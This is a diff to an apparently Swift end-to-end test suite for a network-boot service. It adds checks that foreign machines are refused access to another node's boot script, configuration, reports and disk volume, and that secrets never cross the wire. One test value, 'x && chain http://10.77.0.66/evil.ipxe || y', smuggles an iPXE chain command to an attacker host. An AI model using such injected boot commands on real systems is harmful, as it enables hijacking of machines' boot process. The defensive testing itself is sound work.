@@ -26,10 +26,65 @@ extension EndToEnd.Machines {
                 "write -z -u 2M 64k", "read -P 0 2M 64k", "write -f -P 7 3M 4k", "discard 3M 64k",
                 "write -P 8 267386880 1M", "read -P 8 267386880 1M",
             ]
-            let output = try BootLab.lab(
-                ["exec", "qemu-io", "-f", "raw", "nbd://10.77.0.1/volume/keep-2/\(boot)"]
-                    + acts.flatMap { ["-c", $0] })
+            // From where the machine is, and from nowhere else.
+            let volume = "nbd://10.77.0.1/volume/keep-2/\(boot)"
+            #expect(throws: CommandFailed.self) { try BootLab.lab("exec", "nbdinfo", volume) }
+            let machine = try Neighbour("keep2", mac: Self.macs[1])
+            let output = try machine.run(
+                ["qemu-io", "-f", "raw", volume] + acts.flatMap { ["-c", $0] })
             #expect(!output.contains("failed") && !output.contains("rror"), "\(output)")
+        }
+
+        /// One neighbour without a lease, and one with that of another node, want what belongs to the first node, which is up.
+        private func attack() throws {
+            let mac = Self.macs[0]
+            let node = try lab.json("node", "show", "keep-1") as? [String: Any]
+            let boots = try #require(node?["boots"] as? [[String: Any]])
+            let boot = try #require(boots.first?["boot"] as? String)
+            #expect(node?["alarm"] == nil)
+            let stranger = try Neighbour("stranger", mac: "52:54:00:00:66:01", address: "10.77.0.66")
+            let other = try Neighbour("keep2", mac: Self.macs[1])
+            let evil = "x && chain http://10.77.0.66/evil.ipxe || y"
+            let key = String(repeating: "k", count: 32)
+            for neighbour in [stranger, other] {
+                for path in [
+                    "boot.ipxe", "orders?boot=\(boot)", "register?name=stolen",
+                ] {
+                    let answer = try neighbour.ask("node/\(mac)/\(path)")
+                    #expect(answer.status == "403", "\(path)")
+                    #expect(!answer.text.contains(boot), "\(path)")
+                }
+                for path in ["configuration?boot=\(boot)", "configuration?boot=00000000deadbeef"] {
+                    #expect(try neighbour.ask("node/\(mac)/\(path)", body: key).status == "403", "\(path)")
+                }
+                for path in [
+                    "report?boot=\(boot)&stage=failed", "report?boot=00000000deadbeef&stage=ready",
+                    "hardware?boot=\(boot)", "sessions?boot=\(boot)",
+                ] {
+                    #expect(try neighbour.ask("node/\(mac)/\(path)", body: evil).status == "403", "\(path)")
+                }
+                for name in ["node/\(mac)/boot.ipxe", "grub.cfg-01-\(mac.replacing(":", with: "-"))"] {
+                    let answer = try? neighbour.run(["curl", "-s", "-m", "20", "tftp://10.77.0.1/\(name)"])
+                    #expect(answer?.contains(boot) != true, "\(name)")
+                }
+                #expect(throws: CommandFailed.self) {
+                    try neighbour.run(["nbdinfo", "nbd://10.77.0.1/volume/keep-1/\(boot)"])
+                }
+            }
+            // What is the other one's own it still gets, and reports of another boot count nowhere.
+            #expect(try other.ask("node/\(Self.macs[1])/boot.ipxe").status == "200")
+            #expect(
+                try other.ask("node/\(Self.macs[1])/report?boot=00000000deadbeef&stage=failed", body: evil)
+                    .status
+                    == "403")
+            let shown = try lab.roost("node", "show", "keep-1")
+            #expect(
+                shown.contains("another machine (10.77.0.") && shown.contains("roost node dismiss keep-1"))
+            #expect(lab.log("roost").contains("keep-1: another machine (10.77.0.66"))
+            try BootLab.requireDocumented("nodes/keep-1", "NodeDetail")
+            #expect(!shown.contains("failed"))
+            try lab.roost("node", "dismiss", "keep-1")
+            #expect(try !lab.roost("node", "show", "keep-1").contains("another machine"))
         }
 
         @Test
@@ -68,8 +123,23 @@ extension EndToEnd.Machines {
             // What is on the server's disk, and not in its memory: the power is cut.
             try lab.powerOff("keep1")
 
+            // What is the node's own business is nobody's on the wire.
+            let (hash, key) = (
+                "$6$saltsalt$\(String(repeating: "h4sh", count: 21))xy", "a private key of keep-2"
+            )
+            try lab.roost(
+                "set", "--node", "keep-2", "root-password-hash=\(hash)",
+                "files=/etc/key:600=\(Array(repeating: key, count: 100).joined(separator: "\n"))")
+            let wiretap = try Wiretap("keep-2")
             let second = try start(2)
             #expect(try lab.ssh(second, "test -e /etc/own || echo none") == "none")
+            #expect(try wiretap.count("POST /node/\(Self.macs[1])/configuration?boot=") == 1)
+            #expect(try wiretap.count(hash) == 0 && wiretap.count(key) == 0)
+            #expect(try lab.ssh(second, "cut -d: -f2 /etc/shadow; tail -n 1 /etc/key") == "\(hash)\n\(key)")
+            #expect(
+                try lab.ssh(second, "ls /run/roost").contains("boot-key")
+                    == false)
+            #expect(try lab.roost("node", "show", "keep-2").contains("to \(second), sealed for key "))
             try lab.ssh(second, "echo two >/etc/own; sync")
             try lab.powerOff("keep2")
             try writeByQEMU()
@@ -82,6 +152,7 @@ extension EndToEnd.Machines {
                 try lab.ssh(again, "awk '$2 == \"/\" || $2 == \"/var/lib/kept\" { print $3 }' /proc/mounts")
                     == "overlay\next4")
 
+            try attack()
             // Nobody else gets it, and nobody works on it while it is in use.
             let refused = try? BootLab.lab(
                 "exec", "nbdinfo", "nbd://10.77.0.1/volume/keep-1/0123456789abcdef")
